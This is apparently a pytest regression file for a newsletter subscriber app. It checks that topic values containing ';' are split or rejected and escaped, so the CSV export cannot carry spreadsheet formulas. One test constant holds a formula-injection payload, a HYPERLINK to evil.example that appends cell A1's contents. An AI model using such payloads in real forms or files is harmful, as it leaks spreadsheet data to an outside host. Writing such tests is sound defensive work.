"""Issue 22 (web attacks, finding 2): a topic can never hold the topics separator ';', however it
arrives (the signup form's ticked suggestions, the preferences form, `digest subscribe`, an
imported CSV), so `digest subscribers export` never writes ``safe;=HYPERLINK(...)``: each piece
of the topics cell is escaped. Through the real app and the real CLI."""

from __future__ import annotations

import csv
import io
from datetime import datetime

from sqlalchemy import Engine

from papercore.config import Settings
from papercore.db.engine import transaction
from subscribers import store
from subscribers.csv_export import FORMULA_START
from tests.conftest import Cli
from tests.web_site import Clock, Site

FORMULA = 'safe;=HYPERLINK("http://evil.example/?"&A1,"click")'


def exported_topics(cli: Cli) -> dict[str, str]:
    rows = csv.DictReader(io.StringIO(cli("subscribers", "export").stdout))
    return {row["email"]: row["topics"] for row in rows}


def test_a_ticked_suggestion_with_a_semicolon_is_split_and_exported_safely(
    settings: Settings, engine: Engine, now: datetime, cli: Cli
) -> None:
    site = Site(settings, engine, Clock(now))
    status, _ = site.signup("eve@example.org", topics="graphs", suggested=FORMULA)
    assert status == 200
    site.confirm(site.mailer.last("confirm", "eve@example.org").links["confirm"])
    with engine.connect() as connection:
        eve = store.get_by_email(connection, "eve@example.org")
    assert all(";" not in topic for topic in eve.topics)
    assert FORMULA.split(";")[1] in eve.topics  # a topic of its own
    cell = exported_topics(cli)["eve@example.org"]
    assert all(piece[:1] not in FORMULA_START for piece in cell.split(";")), cell


def test_the_cli_refuses_a_topic_with_a_semicolon(cli: Cli) -> None:
    result = cli("subscribe", "eve@example.org", "--topic", FORMULA, check=False)
    assert result.returncode != 0 and "';'" in result.stderr + result.stdout
    assert "eve@example.org" not in exported_topics(cli)


def test_a_topic_stored_with_a_semicolon_before_is_escaped_piece_by_piece(
    engine: Engine, now: datetime, cli: Cli
) -> None:
    with transaction(engine) as connection:
        old = store.add(connection, "old@example.org", now, topics=["graphs"], status="active")
        store.set_interests(connection, old, "topic", [FORMULA])  # as an old version stored it
    cell = exported_topics(cli)["old@example.org"]
    assert cell.split(";")[1].startswith("'=HYPERLINK")
    assert all(piece[:1] not in FORMULA_START for piece in cell.split(";"))
